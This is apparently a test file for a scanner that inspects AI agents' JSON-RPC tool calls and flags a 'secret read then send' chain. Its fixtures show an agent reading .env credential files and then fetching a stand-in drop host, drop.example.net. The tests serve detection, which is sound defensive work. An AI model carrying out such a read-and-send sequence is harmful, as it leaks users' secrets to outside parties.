/**
 * @module scanCallSequence and callsFromJsonRpc: a whole list of calls (as `check` and the eval
 * hand it over) gives the same chains as the live path, once per chain.
 */
import { describe, expect, test } from "bun:test";
import { callsFromJsonRpc, scanCallSequence, MAX_SEQUENCE_CALLS } from "../../../../src/engine/scanners/chains/index.ts";
import { chains, defaultChains } from "./fixture.ts";

const rpc = (id: number, name: string, args: unknown) => ({ jsonrpc: "2.0", id, method: "tools/call", params: { name, arguments: args } });

describe("callsFromJsonRpc", () => {
  test("keeps tools/call requests (also inside batches), skips everything else", () => {
    const calls = callsFromJsonRpc([
      rpc(1, "read_file", { path: "a" }),
      { jsonrpc: "2.0", id: 2, method: "tools/list" },
      { jsonrpc: "2.0", id: 3, result: { content: [] } },
      [rpc(4, "fetch", { url: "https://x.example.net/" }), { method: "tools/call", params: { name: 5 } }],
      { method: "tools/call", params: { name: "no_args" } },
      null,
      "junk",
    ]);
    expect(calls).toEqual([
      { toolName: "read_file", arguments: { path: "a" } },
      { toolName: "fetch", arguments: { url: "https://x.example.net/" } },
      { toolName: "no_args", arguments: {} },
    ]);
  });
});

describe("scanCallSequence", () => {
  test("finds a chain across JSON-RPC messages, each chain once", () => {
    const calls = callsFromJsonRpc([
      rpc(1, "read_file", { path: "/home/dev/.env" }),
      rpc(2, "fetch", { url: "https://drop.example.net/a" }),
      rpc(3, "fetch", { url: "https://drop.example.net/b" }),
    ]);
    const ids = scanCallSequence(defaultChains, calls).map((f) => f.rule_id);
    expect(ids).toEqual(["chain.secret_read_then_send"]);
  });

  test("a read then a local write is not a chain", () => {
    const calls = callsFromJsonRpc([rpc(1, "read_file", { path: "/home/dev/project/README.md" }), rpc(2, "write_file", { path: "/home/dev/project/NOTES.md", content: "# Notes" })]);
    expect(scanCallSequence(defaultChains, calls)).toEqual([]);
  });

  test("timestamps are honoured when given; missing ones reuse the last", () => {
    const spread = [
      { toolName: "read_file", arguments: { path: "/srv/.env" }, at: 0 },
      { toolName: "fetch", arguments: { url: "https://drop.example.net/" }, at: 120_000 },
    ];
    expect(scanCallSequence(defaultChains, spread)).toEqual([]);
    expect(scanCallSequence(defaultChains, [spread[0]!, { toolName: "fetch", arguments: { url: "https://drop.example.net/" } }]).length).toBe(1);
  });

  test("disabled detection finds nothing", () => {
    const calls = [
      { toolName: "read_file", arguments: { path: "/srv/.env" } },
      { toolName: "fetch", arguments: { url: "https://drop.example.net/" } },
    ];
    expect(scanCallSequence(chains({ enabled: false }), calls)).toEqual([]);
  });

  test("very long sequences are cut at MAX_SEQUENCE_CALLS", () => {
    const calls = [
      ...Array.from({ length: MAX_SEQUENCE_CALLS }, () => ({ toolName: "bash", arguments: { command: "true" } })),
      { toolName: "read_file", arguments: { path: "/srv/.env" } },
      { toolName: "fetch", arguments: { url: "https://drop.example.net/" } },
    ];
    expect(scanCallSequence(defaultChains, calls)).toEqual([]);
  });
});
